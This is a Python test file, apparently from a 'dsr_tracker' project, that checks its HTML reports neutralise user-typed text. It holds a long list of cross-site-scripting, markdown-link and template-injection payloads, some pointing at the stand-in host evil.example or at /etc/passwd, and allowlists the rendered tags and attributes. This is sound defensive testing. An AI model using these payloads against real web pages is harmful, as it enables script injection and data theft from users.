"""Whatever people type, a web page of ours runs nothing, loads nothing and leads nowhere but to the web."""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser
from xml.etree.ElementTree import Element

import html5lib
import pytest

from dsr_tracker.core.dossier import Dossier
from dsr_tracker.reports.contents import Kind
from dsr_tracker.reports.markdown import note_html
from dsr_tracker.reports.report import Report, Scope, build_report
from dsr_tracker.reports.writing import render
from tests.faults.conftest import FULL
from tests.faults.typed_texts import FIRST_CLAUSE, PARTY, dossier_of
from tests.reports.reading import Words

PAYLOADS = (
    # Elements that run or load.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=\"text/javascript\">alert(1)</script >",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<img srcset='//evil.example/a 2x'>",
    "<image href=x onerror=alert(1)>",
    "<picture><source srcset=//evil.example/a></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>body{background:url(//evil.example/a)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' ping='//evil.example/p' target=_blank>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=//evil.example>",
    "<x onclick=alert(1) contenteditable>x</x>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!--><script>alert(1)</script-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Ways out of an attribute, an element or the style sheet.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></p></section></main></body></html><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {# x #}",
    "${alert(1)} <%= 7*7 %>",
    # Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://example.org \"a\\\" onmouseover=alert(1) \\\"\")",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/a.png)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```<script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=//evil.example>",
    "| <script>alert(1)</script> |\n|---|",
    "<details><summary onclick=alert(1)>x</summary></details>",
    # Addresses.
    "javascript:alert(1)//http://example.org",
    "javascript://example.org/%0Aalert(1)",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/'><script>alert(1)</script>",
    "http://[bad",
    "https:evil.example",
    "\x01javascript:alert(1)",
)  # fmt: skip
_TAGS = frozenset(
    {"html", "head", "meta", "title", "style", "body", "header", "main", "nav"}
    | {"footer", "section", "div", "span", "a", "bdi", "caption", "cite", "code"}
    | {"col", "colgroup", "dd", "details", "dl", "dt", "h1", "h2", "h3"}
    | {"h4", "h5", "li", "ol", "p", "path", "rect", "small", "strong"}
    | {"summary", "svg", "table", "tbody", "td", "tfoot", "th", "thead", "time"}
    | {"tr", "ul", "wbr", "blockquote", "br", "em", "hr", "pre", "s"}
)
_ATTRIBUTES = frozenset(
    {"aria-hidden", "aria-label", "aria-labelledby", "charset", "class", "content", "datetime", "dir"}
    | {"height", "href", "http-equiv", "id", "lang", "name", "preserveaspectratio", "rel"}
    | {"role", "scope", "start", "tabindex", "viewbox", "width", "x", "y"}
    | {"d", "fill", "points"}
)
# Among all other tests each third is in two pages, and each kind of page is made once.
_PAGES = [(kind, third) for n, kind in enumerate(Kind) for third in range(3) if FULL or third == n % 3]
_META = {"viewport", "referrer", "color-scheme", "generator"}


def said_by(report: Report) -> str:
    return render(report, "html").decode()


@cache
def dossier(third: int) -> Dossier:
    return dossier_of(PAYLOADS[third::3])


def scope(kind: Kind, language: str = "en") -> Scope:
    return Scope(
        kind=kind,
        language=language,
        since="2025-01-01" if kind in (Kind.CHANGES, Kind.FULL) else "",
        party_ids=(PARTY,) if kind is Kind.COUNTRY else (),
        provision_id=FIRST_CLAUSE if kind is Kind.CLAUSE else "",
    )


class Tags(HTMLParser):
    """Every start tag with its attributes, as the standard library's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


def elements(page: str) -> Iterator[tuple[str, dict[str, str]]]:
    """The elements as two parsers see them: the one of browsers' rules, and a simple one."""
    tree: Element = html5lib.parse(page, namespaceHTMLElements=False)
    for element in tree.iter():
        if isinstance(element.tag, str):
            yield element.tag.split("}")[-1], {str(k): str(v) for k, v in element.attrib.items()}
        else:
            pytest.fail(f"a comment or an instruction: {element.text}")
    simple = Tags()
    simple.feed(page)
    for tag, attributes in simple.seen:
        yield tag, {name: value or "" for name, value in attributes}


def check(page: str) -> int:
    """How many elements there are; all of them ours, with our attributes, leading nowhere else."""
    count = 0
    for tag, attributes in elements(page):
        count += 1
        assert tag in _TAGS, tag
        assert {name.lower() for name in attributes} <= _ATTRIBUTES, (tag, attributes)
        if "href" in attributes:
            assert tag == "a", tag
            href = attributes["href"]
            assert href.startswith(("#", "http://", "https://")), href
            assert "//evil.example/a.png" not in href
        if tag == "meta" and "name" in attributes:
            assert attributes["name"] in _META
        for value in attributes.values():
            assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:", "file:"))
    return count


@pytest.mark.parametrize(("kind", "third"), _PAGES)
def test_a_page_runs_and_loads_nothing(
    kind: Kind,
    third: int,
    record_property: Callable[[str, object], None],
    tell: Callable[[str], None],
) -> None:
    texts, language = PAYLOADS[third::3], ("en", "zh", "en")[third]
    count = check(said_by(build_report(dossier(third), scope(kind, language))))
    said = f"{len(texts)} payloads in a page of kind {kind}, part {third + 1}: elements, none of them theirs"
    record_property(said, count)
    tell(f"{said}: {count}")
    print(f"{said}: {count}")


def test_the_policy_allows_the_one_style_sheet_and_nothing_else() -> None:
    page = said_by(build_report(dossier(0), scope(Kind.FULL)))
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert len(styles) == 1
    digest = base64.b64encode(hashlib.sha256(styles[0].encode()).digest()).decode()
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert policy.replace("&#39;", "'") == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert page.index("Content-Security-Policy") < page.index("<title>")
    assert not re.search(r"url\(|@import|expression", styles[0])


@pytest.mark.parametrize("third", range(3))
def test_what_was_typed_is_shown_not_dropped(third: int) -> None:
    reader = Words()
    reader.feed(said_by(build_report(dossier(third), scope(Kind.CHANGES))))
    shown = " ".join("".join(reader.words).split())
    for text in PAYLOADS[third::3]:
        assert " ".join(text.replace("\x01", "\ufffd").split()) in shown, text


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_note_is_harmless_by_itself(text: str) -> None:
    for tag, attributes in elements(f"<!DOCTYPE html><title>-</title><body>{note_html(text)}"):
        assert tag in _TAGS, tag
        assert set(attributes) <= {"href", "rel", "start", "dir"}
        assert attributes.get("href", "https://").startswith(("http://", "https://"))


def test_there_are_sixty_payloads_and_the_check_finds_what_it_looks_for() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    page = "<!DOCTYPE html><html><head><title>-</title></head><body>{}</body></html>"
    for bad in (PAYLOADS[0], "<p onclick=x>", "<a href=javascript:x>x</a>", "<p style=x>", "<img src=x>"):
        with pytest.raises(AssertionError):
            check(page.format(bad))
    assert check(page.format("<p><a href='https://example.org'>x</a></p>"))
